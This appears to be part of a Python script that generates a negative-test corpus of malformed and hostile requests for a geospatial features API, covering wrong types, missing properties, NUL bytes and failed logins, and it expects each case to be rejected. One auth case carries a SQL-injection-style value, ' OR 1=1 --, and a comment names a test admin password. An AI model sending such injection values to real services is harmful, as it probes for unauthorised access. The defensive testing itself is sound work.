case("unknown-collection-wrong-case", K, BAN_TEXT, "404", path="/ogc/collections/Ban-Zones/items")
case("derived-heating-radii", K, BAN_TEXT, "405", path="/ogc/collections/heating-radii/items")
case("derived-border-lines", K, BAN_TEXT, "405", path="/ogc/collections/border-lines/items")
case("derived-border-buffers", K, BAN_TEXT, "405", path="/ogc/collections/border-buffers/items")
case("base-districts", K, BAN_TEXT, "405", path="/ogc/collections/districts/items")
case("base-provinces", K, BAN_TEXT, "405", path="/ogc/collections/provinces/items")
case("put-derived-item", K, BAN_TEXT, "405", method="PUT", path="/ogc/collections/heating-radii/items/anything", if_match='"v1"')
case("delete-derived-item", K, None, "405", method="DELETE", path="/ogc/collections/border-buffers/items/anything", ctype="-", if_match='"v1"')
case("delete-district", K, None, "405", method="DELETE", path="/ogc/collections/districts/items/130302", ctype="-", if_match='"v1"')
case("patch-item", K, BAN_TEXT, "404|405", method="PATCH", path=BZI, if_match=CUR)
case("post-to-item", K, BAN_TEXT, "404|405", path=BZI)

# ---------------------------------------------------------------- missing required properties
K = "missing-property"
case("ban-zone-no-name", K, d(ban(props={"class": "III"})), "400")
case("ban-zone-no-class", K, d(ban(props={"name": "测试禁燃区"})), "400")
case("ban-zone-empty-properties", K, d(ban(props={})), "400")
case("ban-zone-null-properties", K, d(ban(props=None)).replace('"properties":{"name":"测试禁燃区","class":"III"}', '"properties":null'), "400")
case("ban-zone-no-properties-member", K, d(ban(props=...)), "400")
case("built-up-area-no-name", K, d(feat({"name_en": "Test"}, POLY)), "400", path="/ogc/collections/built-up-areas/items")
case("industrial-park-no-name", K, d(feat({}, POLY)), "400", path="/ogc/collections/industrial-parks/items")
case("control-zone-no-name", K, d(feat({"zone_type": "straw_burning_ban"}, POLY)), "400", path="/ogc/collections/control-zones/items")
case("heat-source-no-name", K, d(heat(props={k: v for k, v in HEATP.items() if k != "name"})), "400", path=HS)
case("put-ban-zone-no-class", K, d(ban(props={"name": "测试禁燃区"})), "400", method="PUT", path=BZI, if_match=CUR)

# ---------------------------------------------------------------- wrong property types / values
K = "property-type"
def bp(**kw):
    p = dict(BANP); p.update(kw); return d(ban(props=p))
def hp(**kw):
    p = dict(HEATP); p.update(kw); return d(heat(props=p))
case("class-number", K, bp(**{"class": 3}), "400")
case("class-iv", K, bp(**{"class": "IV"}), "400")
case("class-lowercase", K, bp(**{"class": "iii"}), "400")
case("class-empty", K, bp(**{"class": ""}), "400")
case("class-null", K, bp(**{"class": None}), "400")
case("class-array", K, bp(**{"class": ["III"]}), "400")
case("class-padded", K, bp(**{"class": " III "}), "400")
case("class-roman-numeral-char", K, bp(**{"class": "Ⅲ"}), "400", note="U+2162, not the letters III")
case("class-with-nul", K, bp(**{"class": "III\u0000"}), "400")
case("name-with-nul-no-class", K, d(ban(props={"name": "测试\u0000禁燃区"})), "400", note="NUL in text, and the class is missing")
case("name-empty", K, bp(name=""), "400")
case("name-null", K, bp(name=None), "400")
case("name-number", K, bp(name=123), "400")
case("name-object", K, bp(name={"zh": "测试"}), "400")
case("name-array", K, bp(name=["测试"]), "400")
case("name-10001-chars", K, "gen:name-10001-chars", "400", note="generated: a 10,001-character name")
case("nested-object-property", K, bp(meta={"a": 1}), "400")
case("array-property", K, bp(tags=["a", "b"]), "400")
case("heat-largest-unit-string", K, hp(largest_unit_mw="300"), "400", path=HS)
case("heat-largest-unit-boolean", K, hp(largest_unit_mw=True), "400", path=HS)
case("heat-largest-unit-negative", K, hp(largest_unit_mw=-300), "400", path=HS)
case("heat-total-capacity-negative", K, hp(total_capacity_mw=-1), "400", path=HS)
case("heat-largest-unit-object", K, hp(largest_unit_mw={"value": 300}), "400", path=HS)
case("heat-name-number", K, hp(name=42), "400", path=HS)
case("heat-capacity-infinity-string", K, hp(total_capacity_mw="Infinity"), "400", path=HS)
case("control-zone-name-array", K, d(feat({"name": ["甲", "乙"], "zone_type": "fireworks_ban"}, POLY)), "400", path="/ogc/collections/control-zones/items")

# ---------------------------------------------------------------- authentication (last: failed logins may be throttled)
K = "auth"
case("anonymous-post", K, BAN_TEXT, "401", auth="none")
case("anonymous-delete", K, None, "401", method="DELETE", path=BZD, ctype="-", auth="none", if_match='"v1"')
case("wrong-password", K, BAN_TEXT, "401", auth="Basic YWRtaW46d3Jvbmc=", note="admin:wrong")
case("basic-not-base64", K, BAN_TEXT, "401|400", auth="Basic !!!not-base64!!!")
case("basic-without-colon", K, BAN_TEXT, "401|400", auth="Basic YWRtaW4=", note="admin")
case("bearer-garbage", K, BAN_TEXT, "401", auth="Bearer ' OR 1=1 --")

# ---------------------------------------------------------------- control bodies (must be ACCEPTED; not hostile cases)
CONTROLS = [
    ("valid-ban-zone", BAN_TEXT, BZ),
    ("valid-heat-source", HEAT_TEXT, HS),
    ("valid-built-up-area", d(feat({"name": "测试建成区"}, POLY)), "/ogc/collections/built-up-areas/items"),
    ("valid-industrial-park", d(feat({"name": "测试园区"}, POLY)), "/ogc/collections/industrial-parks/items"),
    ("valid-control-zone", d(feat({"name": "测试管控区", "zone_type": "fireworks_ban"}, POLY)), "/ogc/collections/control-zones/items"),
]
with open(os.path.join(OUT, "controls.tsv"), "w") as fh:
    fh.write("# Valid requests the hostile cases are variations of; the service must accept each (POST → 201,\n")
    fh.write("# PUT with the current ETag → 200/204). They run after the corpus and prove its cases fail for\n")
    fh.write("# the reason they name, not because the base body or target is wrong.\n")
    fh.write("name\tmethod\tpath\tbody\n")
    for n, body, path in CONTROLS:
        with open(os.path.join(OUT, n + ".json"), "wb") as f2:
            f2.write(body.encode())
        fh.write(f"{n}\tPOST\t{path}\t{n}.json\n")
    fh.write(f"put-valid-ban-zone\tPUT\t{BZI}\tvalid-ban-zone.json\n")
    fh.write(f"put-valid-heat-source\tPUT\t{HSI}\tvalid-heat-source.json\n")

with open(os.path.join(OUT, "cases.tsv"), "w") as fh:
    fh.write("""# Hostile-input corpus: every case must get a 4xx with a JSON {status, error, detail}, leave the
# store unchanged and the service answering GET /health. One row per case, tab-separated:
#   name          unique case name (the test's display name)
#   class         the class of input it represents
#   method        POST, PUT, DELETE (PATCH once)
#   path          request target, sent as written (percent-escapes stay escaped)
#   body          file in this directory, gen:<generator> (built at test time, see HostileInputContract), or - for none
#   content_type  Content-Type header, or - for none
#   auth          admin (Basic admin:secret-admin), none, or the literal Authorization header value
#   if_match      If-Match header, or - for none; {etag} / {version} stand for the target's current ETag / version
#   transport     client (java.net.http, Content-Length), raw (socket, exact bytes, Content-Length),
#                 chunked (socket, chunked transfer coding), declared-length=N (socket, Content-Length N, short body)
#   expect        the status codes that count as right, separated by |
#   note          what makes the case hostile, when the name does not say it; "generated" bodies are not checked in
""")
    fh.write("name\tclass\tmethod\tpath\tbody\tcontent_type\tauth\tif_match\ttransport\texpect\tnote\n")
    for r in rows:
        fh.write("\t".join(r) + "\n")

from collections import Counter
c = Counter(r[1] for r in rows)
print(len(rows), dict(c))
